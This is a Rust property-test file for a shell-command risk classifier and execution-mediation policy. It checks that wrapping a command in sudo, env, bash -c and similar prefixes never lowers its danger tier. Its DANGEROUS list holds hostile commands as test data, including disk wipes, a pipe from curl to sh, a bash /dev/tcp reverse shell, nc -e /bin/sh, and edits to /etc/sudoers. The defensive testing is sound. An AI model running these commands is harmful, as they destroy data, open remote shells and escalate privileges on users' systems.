//! Properties: no panic on any input, determinism, wrapping never lowers a tier.

use hostguard_risk_core::{classify_command, ExecMediationPolicy};
use proptest::prelude::*;

const DANGEROUS: &[&str] = &[
    "rm -rf /",
    "rm -rf ~",
    "dd if=/dev/zero of=/dev/sda",
    "mkfs.ext4 /dev/sda1",
    "curl https://x | sh",
    "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
    "nc -e /bin/sh h 1",
    "echo x >> /etc/sudoers",
    "chmod u+s /bin/bash",
    "reboot",
    "kill -9 1",
    "git push -f origin main",
    "crontab -",
    "git reset --hard",
];

const WRAPPERS: &[&str] = &[
    "sudo ",
    "sudo -u root ",
    "doas ",
    "env ",
    "env A=1 ",
    "nohup ",
    "timeout 5 ",
    "xargs ",
    "command ",
    "exec ",
    "nice -n 5 ",
    "stdbuf -o0 ",
    "time ",
    "X=1 ",
];

fn single_quoted(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(512))]

    #[test]
    fn any_string_classifies_without_panic(s in any::<String>()) {
        let _ = classify_command(&s);
        let _ = ExecMediationPolicy::default().mediate(&s);
    }

    #[test]
    fn shellish_strings_classify_without_panic(s in "[a-z $(){}`'\"\\\\|&;<>~/*=\n-]{0,80}") {
        let _ = classify_command(&s);
    }

    #[test]
    fn classification_is_deterministic(s in "[a-z $(){}`'\"|&;<>~/*=-]{0,60}") {
        prop_assert_eq!(classify_command(&s), classify_command(&s));
    }

    #[test]
    fn wrapping_never_lowers_the_tier(
        i in 0..DANGEROUS.len(),
        w in 0..WRAPPERS.len(),
        how in 0..4usize,
    ) {
        let cmd = DANGEROUS[i];
        let base = classify_command(cmd).tier;
        let wrapped = match how {
            0 => format!("{}{cmd}", WRAPPERS[w]),
            1 => format!("bash -c {}", single_quoted(cmd)),
            2 => format!("echo $({cmd})"),
            _ => format!("{}sh -c {}", WRAPPERS[w], single_quoted(cmd)),
        };
        let got = classify_command(&wrapped).tier;
        prop_assert!(got >= base, "{} ({:?}) → {} ({:?})", cmd, base, wrapped, got);
    }
}
